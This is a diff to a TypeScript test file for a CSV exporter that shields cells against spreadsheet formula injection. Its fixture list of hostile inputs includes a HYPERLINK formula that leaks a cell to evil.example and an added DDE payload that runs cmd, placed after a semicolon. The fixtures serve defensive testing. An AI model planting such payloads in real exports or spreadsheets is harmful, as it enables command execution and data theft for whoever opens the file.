@@ -34,10 +34,17 @@ const RUNS = /^[\s"']*[=+\-@\uff1d\uff0b\uff0d\uff20]|^[\t\r\n]/;
 
 /** Returns a cell as it was before it was shielded, as docs/contracts.md says. */
 function unshielded(cell: string): string {
-  return cell.startsWith("'") && (RUNS.test(cell) || /^['"]*[\t\r\n]/.test(cell))
-    ? cell.slice(1)
-    : cell;
+  const begun = cell.startsWith("'") && (RUNS.test(cell) || /^['"]*[\t\r\n]/.test(cell));
+  return cell.slice(begun ? 1 : 0)
+    .split(/(?<=[;\t\r\n])/)
+    .map((part, place) =>
+      place > 0 && part.startsWith("'") && RUNS.test(part) ? part.slice(1) : part
+    )
+    .join("");
 }
+
+/** The parts of a cell that a program may take for cells, which splits lines at other places. */
+const partsOf = (cell: string) => cell.split(/[;\t\r\n]/);
 
 const EVIL = [
   '=HYPERLINK("https://evil.example?leak="&A1, "click")',
@@ -57,6 +64,8 @@ const EVIL = [
   "\u00a0=1",
   "\uff1d1+1",
   "a,b;c\td",
+  "x;=cmd|' /C calc'!A0",
+  'x; "@SUM(A1)\t-1\n\r+1',
   'say ""hi""',
   "line\r\nline\nline\rline",
   "\u0000nul\u0000",
@@ -83,7 +92,9 @@ Deno.test("csvLine() is read by another program as it was, and nothing in it run
       assertEquals(others, []);
       const wanted = texts.map((one) => one.toWellFormed().replaceAll("\u0000", "\ufffd"));
       for (const cell of cells!) {
-        assert(cell.startsWith("'") || !RUNS.test(cell) || !isNaN(Number(cell)), cell);
+        for (const part of partsOf(cell)) {
+          assert(part.startsWith("'") || !RUNS.test(part) || !isNaN(Number(cell)), cell);
+        }
       }
       assertEquals(cells!.map(unshielded), wanted);
     }),
@@ -231,7 +242,7 @@ Deno.test("writeCsv() writes cells and comparisons whose numbers follow from the
   assertEquals(cells.length, report.subjects.flatMap(({ cells }) => cells).length);
   const [pair, ...others] = comparisons.filter(({ of }) => of === "strategy");
   assertEquals(others, []);
-  const { subject, success } = report.comparisons[0]!;
+  const { subject, success, gained, lost } = report.comparisons[0]!;
   assertEquals([pair!.model, pair!.strategy, pair!.against_model, pair!.against_strategy], [
     ...[subject.model, subject.strategy, subject.model, "baseline"],
   ]);
@@ -240,10 +251,25 @@ Deno.test("writeCsv() writes cells and comparisons whose numbers follow from the
       .map((name) => Number(pair![name])),
     [
       ...[success!.candidate, success!.baseline, success!.difference],
-      ...[success!.interval!.lower, success!.interval!.upper, success!.gained, success!.lost],
+      ...[success!.interval!.lower, success!.interval!.upper, gained.length, lost.length],
     ],
   );
   assertEquals([pair!.test, pair!.p], ["mcnemar", "1"]);
+});
+
+Deno.test("writeCsv() counts tests that were gained and lost, not their trials", async () => {
+  const trialsOf = (model: string, solved: readonly boolean[]) =>
+    solved.map((own, place) =>
+      record({
+        ...{ model, task: { case: place < 3 ? "a" : "b", seed: place }, repetition: place % 3 + 1 },
+        outcome: own ? "solved" : "wrong_answer",
+      })
+    );
+  const { comparisons: [pair] } = await written([
+    ...trialsOf("old", [true, true, true, false, true, true]),
+    ...trialsOf("new", [false, false, false, true, true, true]),
+  ]);
+  assertEquals([pair!["gained"], pair!["lost"]], ["1", "1"]);
 });
 
 Deno.test("writeCsv() reads trials one by one, keeps none, and has whole files or none", async () => {
@@ -278,7 +304,7 @@ Deno.test("writeCsv() writes hostile names and texts as they are, but for what w
   const { texts, ...rows } = await written(trials);
   for (const text of texts) {
     for (const cell of (parse(text) as string[][]).flat()) {
-      assert(cell.startsWith("'") || !RUNS.test(cell), cell);
+      for (const part of partsOf(cell)) assert(part.startsWith("'") || !RUNS.test(part), cell);
     }
   }
   const wanted = EVIL.map((text) => text.toWellFormed().replaceAll("\u0000", "\ufffd"));
